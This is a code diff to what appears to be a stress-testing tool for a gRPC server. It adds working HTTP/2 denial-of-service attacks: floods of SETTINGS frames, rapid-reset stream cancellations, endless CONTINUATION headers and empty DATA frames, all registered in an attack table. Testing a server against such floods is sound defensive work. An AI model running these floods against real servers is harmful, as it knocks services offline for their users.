@@ -14,7 +14,7 @@ import sys
 import threading
 import time
 from dataclasses import dataclass
-from itertools import repeat
+from itertools import count, repeat
 from typing import TYPE_CHECKING
 
 if TYPE_CHECKING:
@@ -231,20 +231,61 @@ def grpc_slow(target: Target) -> None:
     hold(40, grpc, _HELLO + calls)
 
 
-def grpc_pings(target: Target) -> None:
+def _flood(target: Target, frames: Callable[[int], bytes]) -> None:
+    """Send frames on gRPC connections as fast as they are read, and read what is answered."""
     grpc = Target(target.grpc_port, 0, target.key)
-    ping = _frame(6, 0, 0, b"12345678") * 1000
 
     def flood() -> None:
         with grpc.connect() as connection:
             connection.sendall(_HELLO)
-            connection.setblocking(False)
             connection.settimeout(0.2)
-            while True:
-                connection.sendall(ping)
-                connection.recv(100_000)
+            for number in count():
+                connection.sendall(frames(number))
+                if not connection.recv(100_000):
+                    return
 
     again(8, flood)
+
+
+def grpc_pings(target: Target) -> None:
+    ping = _frame(6, 0, 0, b"12345678") * 1000
+    _flood(target, lambda _: ping)
+
+
+def grpc_settings(target: Target) -> None:
+    settings = _frame(4, 0, 0, b"") * 1000
+    _flood(target, lambda _: settings)
+
+
+def grpc_resets(target: Target) -> None:
+    """Calls that are cancelled at once, the "rapid reset" of 2023."""
+
+    def frames(number: int) -> bytes:
+        streams = range(200 * number + 1, 200 * number + 201, 2)
+        reset = struct.pack(">I", 8)
+        return b"".join(_call(n, target.key, b"") + _frame(3, 0, n, reset) for n in streams)
+
+    _flood(target, frames)
+
+
+def grpc_continuations(target: Target) -> None:
+    """Headers that never end, in frames of their own."""
+    field = b"\0\x01x\x7f\x81\x7e" + b"y" * 16_000
+    more = _frame(9, 0, 1, field) * 10
+
+    def frames(number: int) -> bytes:
+        return more if number else _frame(1, 0, 1, b"\x83") + more
+
+    _flood(target, frames)
+
+
+def grpc_empty_data(target: Target) -> None:
+    empty = _frame(0, 0, 1, b"") * 1000
+
+    def frames(number: int) -> bytes:
+        return empty if number else _call(1, target.key, b"") + empty
+
+    _flood(target, frames)
 
 
 def nothing(_: Target) -> None:
@@ -273,6 +314,10 @@ ATTACKS: dict[str, tuple[str, Callable[[Target], None]]] = {
     "noise": ("16 connections after the other with what is no HTTP", noise),
     "grpc_slow": ("400 gRPC calls that declare 64 MiB and send nothing more", grpc_slow),
     "grpc_pings": ("8 gRPC connections that only ping", grpc_pings),
+    "grpc_settings": ("8 gRPC connections that only send settings", grpc_settings),
+    "grpc_resets": ("8 gRPC connections whose calls are cancelled at once", grpc_resets),
+    "grpc_continuations": ("8 gRPC connections with endless headers", grpc_continuations),
+    "grpc_empty_data": ("8 gRPC connections with empty frames of data", grpc_empty_data),
 }
 
 
